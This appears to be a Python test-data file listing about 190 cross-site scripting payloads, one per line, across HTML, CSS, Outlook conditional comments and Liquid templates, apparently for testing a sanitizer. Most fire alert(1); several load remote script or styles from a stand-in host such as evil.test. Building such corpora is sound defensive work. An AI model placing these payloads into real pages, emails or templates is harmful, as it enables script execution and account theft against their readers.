"""One hostile piece of HTML, CSS, Outlook code or Liquid per line."""

PAYLOADS = list(
    r"""
<script>alert(1)</script>
<ScRiPt src=//evil.test/a.js></sCrIpT>
<script/x>alert(1)</script/x>
<scr<script>ipt>alert(1)</scr</script>ipt>
<<script>alert(1)//<</script>
<script type="text/liquid">{{ x }}</script>
</title><script>alert(1)</script>
</style><script>alert(1)</script>
--><script>alert(1)</script>
]]><script>alert(1)</script>
<img src=x onerror=alert(1)>
<img src=x oNeRrOr = alert(1)>
<img/src=x/onerror=alert(1)>
<img src="x"onerror="alert(1)">
<img src=x:alert(alt) onerror=eval(src) alt=1>
<img src="javascript:alert(1)">
<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">
<img srcset="javascript:alert(1) 1x, https://x.test/a.png 2x">
<img longdesc="javascript:alert(1)" dynsrc="javascript:alert(1)" lowsrc="javascript:alert(1)">
<image src=x onerror=alert(1)>
<p onclick=alert(1)>x</p>
<div onpointerrawupdate=alert(1) tabindex=1>x</div>
<b/onmouseover=alert(1)//>x</b>
<body onload=alert(1)>
<html onmouseover=alert(1)>
<a href="javascript:alert(1)">x</a>
<a href="JaVaScRiPt:alert(1)">x</a>
<a href=" &#1; javascript:alert(1)">x</a>
<a href="java&#9;script:alert(1)">x</a>
<a href="java&#10;script&colon;alert(1)">x</a>
<a href="&#x6a;&#97;vascript&#0000058;alert(1)">x</a>
<a href="&amp;#106;avascript:alert(1)">x</a>
<a href="javascript&#58;//%0aalert(1)">x</a>
<a href="vbscript:msgbox(1)">x</a>
<a href="data:text/html,<script>alert(1)</script>">x</a>
<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>
<a href="view-source:javascript:alert(1)">x</a>
<a href="blob:https://x.test/1">x</a>
<a href="filesystem:https://x.test/1">x</a>
<a href=javascript:alert(1) href=https://x.test>x</a>
<a xlink:href="javascript:alert(1)" formaction="javascript:alert(1)">x</a>
<a href="https://x.test" ping="https://evil.test" download onclick="alert(1)">x</a>
<map name=m><area href="javascript:alert(1)" shape=rect></map><img usemap="#m">
<table background="javascript:alert(1)"><tr><td background="javascript:alert(1)">x</td></tr></table>
<base href="javascript:alert(1)//">
<link rel=stylesheet href=//evil.test/x.css>
<link rel=import href="data:text/html,<script>alert(1)</script>">
<meta http-equiv=refresh content="0;url=javascript:alert(1)">
<meta http-equiv=" ReFrEsH" content="0;url=data:text/html,x">
<meta http-equiv=content-type content="text/html; charset=utf-7">+ADw-script+AD4-
<meta charset=utf-7>
<meta name=referrer content=unsafe-url>
<iframe src="javascript:alert(1)"></iframe>
<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>
<frameset onload=alert(1)><frame src="javascript:alert(1)"></frameset>
<object data="javascript:alert(1)"></object>
<embed src="javascript:alert(1)">
<applet code=x></applet>
<form action="javascript:alert(1)"><input type=submit formaction="javascript:alert(1)"></form>
<button formaction="javascript:alert(1)">x</button>
<input autofocus onfocus=alert(1)>
<isindex action="javascript:alert(1)" type=image>
<video><source onerror=alert(1)></video>
<audio src=x onerror=alert(1)></audio>
<details open ontoggle=alert(1)>x</details>
<marquee onstart=alert(1)>x</marquee>
<portal src="javascript:alert(1)"></portal>
<dialog open onclose=alert(1)>x</dialog>
<custom-tag onfocus=alert(1) contenteditable>x</custom-tag>
<svg onload=alert(1)>
<svg><script>alert&#40;1)</script></svg>
<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>
<svg><set attributeName=href to="javascript:alert(1)"/></svg>
<svg><animate onbegin=alert(1) attributeName=x></svg>
<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>
<svg></p><style><a id="</style><img src=x onerror=alert(1)>">
<svg><title><style><img src=x onerror=alert(1)></style></title></svg>
<svg><desc><noscript>&lt;/noscript&gt;<img src=x onerror=alert(1)></desc></svg>
<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">
<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>
<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math>
<math href="javascript:alert(1)"><mi>x</mi></math>
<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=alert(1) src>">
<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>
<noembed><p title="</noembed><img src=x onerror=alert(1)>"></noembed>
<noframes><p title="</noframes><img src=x onerror=alert(1)>"></noframes>
<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>
<textarea><p title="</textarea><img src=x onerror=alert(1)>"></textarea>
<title><p title="</title><img src=x onerror=alert(1)>"></title>
<style><p title="</style><img src=x onerror=alert(1)>"></style>
<template><img src=x onerror=alert(1)></template>
<select><template><style><!--</style><a rel="--></style></template></select><img src onerror=alert(1)>">
<select><iframe><style></select><img src=x onerror=alert(1)></style></iframe></select>
<plaintext><img src=x onerror=alert(1)>
<listing>&lt;img src=x onerror=alert(1)&gt;</listing>
<p id="</p><img src=x onerror=alert(1)>">x</p>
<p title="&quot; onclick=alert(1) x=&quot;">x</p>
<p title='" onclick=alert(1) x="'>x</p>
<p title=`x`onclick=alert(1)>x</p>
<div style="width:expression(alert(1))">x</div>
<div style="width:e\xpression(alert(1))">x</div>
<div style="background:url(javascript:alert(1))">x</div>
<div style="background:u\72l('java\0073cript:alert(1)')">x</div>
<div style="background:url(&quot;data:text/html,x&quot;)">x</div>
<div style="behavior:url(x.htc);-moz-binding:url(//evil.test/x.xml#x)">x</div>
<div style="-ms-behavior:url(x.htc);filter:progid:x(sizingMethod='javascript:alert(1)')">x</div>
<div style="color:red;}</style><script>alert(1)</script>">x</div>
<div style="font-family:'\22\3e\3cimg src=x onerror=alert(1)\3e'">x</div>
<style>@import 'javascript:alert(1)';</style>
<style>@\69mport url(//evil.test/x.css);</style>
<style>li{list-style-image:url("javascript:alert(1)")}</style>
<style>a{width:expression(alert(1))}b{behavior:url(x)}</style>
<style>a{content:"</style><img src=x onerror=alert(1)>"}</style>
<style>a[title="\3c/style>\3cimg src=x onerror=alert(1)>"]{color:red}</style>
<style>@media x{a{b:url("</style><script>alert(1)</script>")}}</style>
<style>@font-face{font-family:x;src:url(javascript:alert(1))}</style>
<style>@namespace url("javascript:alert(1)");</style>
<style><!--</style><img src=x onerror=alert(1)>--></style>
<style>/*</style><img src=x onerror=alert(1)>*/</style>
<style>a{background:ur/**/l(javascript:alert(1));x:java/**/script:alert(1)}</style>
<!--><img src=x onerror=alert(1)>-->
<!---><img src=x onerror=alert(1)>-->
<!-- --!><img src=x onerror=alert(1)> -->
<!--[if gte IE 4]><script>alert(1)</script><![endif]-->
<!--[if mso]>--><img src=x onerror=alert(1)><!--<![endif]-->
<!--[if mso]>--!><img src=x onerror=alert(1)><![endif]-->
<!--[if mso]><img src="--><img src=x onerror=alert(1)>"><![endif]-->
<!--[if mso]><v:roundrect href="javascript:alert(1)" onclick="alert(1)"></v:roundrect><![endif]-->
<!--[if mso]><style>a{b:"--><img src=x onerror=alert(1)>"}</style><![endif]-->
<!--[if mso]><style>a{width:expression(alert(1))}</style><xml><script>alert(1)</script></xml><![endif]-->
<!--[if !mso]><!--><img src=x onerror=alert(1)><!--<![endif]-->
<!--[if (mso)|(x)]><a title="--&gt;<img src=x onerror=alert(1)>">x</a><![endif]-->
<!--[if mso]><b><!--[if mso]><script>alert(1)</script><![endif]-->
<![if !mso]><img src=x onerror=alert(1)><![endif]>
<?xml version="1.0"?><script>alert(1)</script>
<? x="><script>alert(1)</script>">
</ x="><script>alert(1)</script>">
<!x="><script>alert(1)</script>">
<![CDATA[<script>alert(1)</script>]]>
{{ "<script>alert(1)</script>" }}
{{ x | default: "<img src=x onerror=alert(1)>" }}
{% assign x = "<script>alert(1)</script>" %}{{ x }}
{% if a <script>alert(1)</script> %}{% endif %}
{% if a <img/src=x/onerror=alert(1)> %}{% endif %}
{{ "<" | append: "script>" }}alert(1)
<a href="{{ nil | append: 'javascript' }}{{ view_url | slice: 5, 1 }}alert(1)">x</a>
<a href="{% assign c = view_url | slice: 5, 1 %}{{ nil | append: 'javascript' }}{{ c }}alert(1)">x</a>
{% assign c = view_url | slice: 5, 1 %}<a href="{{ nil | append: 'javascript' }}{{ c }}alert(1)">x</a>
<a href="{{ nil | append: 'javascript' }}{{ view_url | remove: 'https' | remove: '//x.test/' }}alert(1)">x</a>
{% capture q %}<b>{% endcapture %}{{ ["q"] | replace: "b", "script" }}alert(1)
{% raw %}{{ '<img src=x onerror=alert(1)>' }}{% endraw %}
{<script></script>{ '<img src=x onerror=alert(1)>' }}
&#123;{ '<img src=x onerror=alert(1)>' }}
<{{ "script" }}>alert(1)</{{ "script" }}>
<scr{{ x }}ipt>alert(1)</scr{{ x }}ipt>
<img src=x on{{ x }}error=alert(1)>
<img {{ "src=x onerror=alert(1)" }}>
<a href="{{ 'javascript:alert(1)' }}">x</a>
<a href="{{ nil | default: 'javascript:alert(1)' }}">x</a>
<a href="{{ nil | append: 'javascript' | append: ':alert(1)' }}">x</a>
<a href="{{ nil | append: 'https:javascript:alert(1)' | remove: 'https:' }}">x</a>
<a href="{{ nil }}javascript:alert(1)">x</a>
<a href="java{{ nil }}script:alert(1)">x</a>
<a href="{% if nil %}https://x.test{% else %}javascript:alert(1){% endif %}">x</a>
<a href="{% cycle 'javascript:alert(1)' %}">x</a>
{% assign u = "javascript:alert(1)" %}<a href="{{ u }}">x</a>
{% capture u %}javascript:alert(1){% endcapture %}<a href="{{ u }}">x</a>
{% assign u = "javascript:alert(1)" %}{% assign v = u %}<a href="{{ v }}">x</a>
{% for u in "javascript:alert(1)" %}<a href="{{ u }}">x</a>{% endfor %}
<p title="{% if nil %}">{% endif %}" onclick=alert(1) x="">x</p>
<p title="{{ nil | default: ' onclick=alert(1) x=' }}">x</p>
<p title='{{ nil | default: "&quot; onclick=alert(1) x=&quot;" }}'>x</p>
<p title="{{" onclick=alert(1) x="}}">x</p>
<p title='{{ " onclick=alert(1) x=" }}'>x</p>
{% capture q %}"{% endcapture %}<p title="{{ q }} onclick=alert(1) x=">x</p>
{% assign q = '"' %}<p title="{{ q }} onclick=alert(1) x=">x</p>
{% capture q %}<b>{% endcapture %}{{ q | replace: "b", "script" }}alert(1)
{% capture q %}<b>{% endcapture %}{{ q | slice: 0, 1 }}script>alert(1)
{{ "%3Cscript%3Ealert(1)%3C/script%3E" | url_decode | safe }}
<style>a{color:{{ "</style><script>alert(1)</script>" }}}</style>
<title>{{ "</title><script>alert(1)</script>" }}</title>
<!--[if mso]>{{ "--><script>alert(1)</script>" }}<![endif]-->
<!--[if mso]>--{{ ">" }}<img src=x onerror=alert(1)><![endif]-->
<!-- {% if nil %} --><p title="--><img src=x onerror=alert(1)>">x</p>{% endif %}
{% comment %}<title>{% endcomment %}<img src=x onerror=alert(1)></title>
""".strip().splitlines()
)
